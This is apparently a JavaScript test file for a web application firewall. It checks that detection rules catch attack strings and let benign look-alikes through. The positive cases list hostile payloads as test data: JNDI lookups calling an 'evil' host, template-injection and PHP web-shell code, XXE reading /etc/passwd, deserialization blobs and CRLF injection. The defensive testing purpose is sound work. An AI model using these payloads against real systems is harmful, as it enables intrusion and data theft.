import t from 'tap';
import { negatives, positives } from './table.js';
import { T_ANY_HEADER, T_NAME, T_TEXT, T_UA, T_PATH, T_HEADER, T_FORM, T_VALUE } from '../../../src/waf/rule.js';

void t.test('code, template, XML, Java, PHP, prototype and protocol attacks are caught', async (t) => {
  positives(t, [
    { v: '${jndi:ldap://evil.example:1389/a}', rule: 944150, bits: T_ANY_HEADER },
    { v: '${${lower:j}ndi:ldap://evil/x}', rule: 944150 },
    { v: '${${::-j}${::-n}${::-d}${::-i}:rmi://evil/x}', rule: 944150 },
    { v: '%24%7Bjndi%3Adns%3A%2F%2Fevil%7D', rule: 944150 },
    { v: "%{(#_memberAccess['allowStaticMethodAccess']=true)}", rule: 944110 },
    { v: 'class.module.classLoader.resources.context.parent.pipeline.first.pattern', rule: 944120, bits: T_NAME },
    { v: 'rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA', rule: 944130 },
    { v: "T(java.lang.Runtime).getRuntime().exec('id')", rule: 944100 },
    { v: '{{7*7}}', rule: 934141 },
    { v: "{{7*'7'}}", rule: 934141 },
    { v: '${7*7}', rule: 934141 },
    { v: "{{''.__class__.__mro__[1].__subclasses__()}}", rule: 934140 },
    { v: '<%= `id` %>', rule: 934142 },
    { v: '#set($x=$class.inspect("java.lang.Runtime"))', rule: 934143 },
    { v: "require('child_process').exec('id')", rule: 934100 },
    { v: '__proto__[isAdmin]', rule: 934130, bits: T_NAME },
    { v: 'constructor.prototype.role', rule: 934130, bits: T_NAME },
    { v: '{"__proto__":{"a":1}}', rule: 934131 },
    { v: '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>', rule: 934300, bits: T_TEXT },
    { v: '<!DOCTYPE r SYSTEM "http://evil/x.dtd">', rule: 934310, bits: T_TEXT },
    { v: 'O:8:"stdClass":1:{s:4:"file";}', rule: 933170 },
    { v: "eval(base64_decode('c3lzdGVt'));", rule: 933150 },
    { v: '<?php system($_GET["c"]); ?>', rule: 933100 },
    { v: 'php://filter/convert.base64-encode/resource=index.php', rule: 933110 },
    { v: 'data://text/plain;base64,PD9waHA=', rule: 933110 },
    { v: 'en\r\nSet-Cookie: admin=1', rule: 921110 },
    { v: 'en\r\n\r\n<script>alert(1)</script>', rule: 921120 },
    { v: 'victim@example.com\r\nBcc: everyone@example.com', rule: 921111, bits: T_VALUE | T_FORM },
    { v: 'a\u0000.png', rule: 920270 },
    { v: 'sqlmap/1.7.2#stable (https://sqlmap.org)', rule: 913100, bits: T_UA },
    { v: 'Mozilla/5.00 (Nikto/2.5.0) (Evasions:None)', rule: 913100, bits: T_UA },
    { v: '/nmaplowercheck1716201500', rule: 913120, bits: T_PATH },
  ]);
});

void t.test('look-alikes stay clean', async (t) => {
  negatives(t, [
    'Bearer ${token}', '${ENV:-default}', 'API_URL=${API_URL:-http://api:3000}', '{count, plural, one {# item} other {# items}}',
    'Hello {{name}}', 'def __init__(self):', 'self.__class__.__name__', 'Array.prototype.map', 'constructor(props) { super(props) }',
    '<?xml version="1.0"?><r/>', '<!DOCTYPE html>', 'process.env.PORT', 'eval is evil', 'system requirements (minimum)',
    '__typename', 'getClass() returns the runtime class',
  ]);
  negatives(t, ['Hi,\nTo: whom it may concern', 'Hi,\r\nSubject: my last order\r\nThanks'], T_VALUE | T_FORM);
  negatives(t, ['Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)', 'Datadog/Synthetics', 'python-httpx/0.27.0', 'kube-probe/1.29'], T_UA | T_HEADER);
});
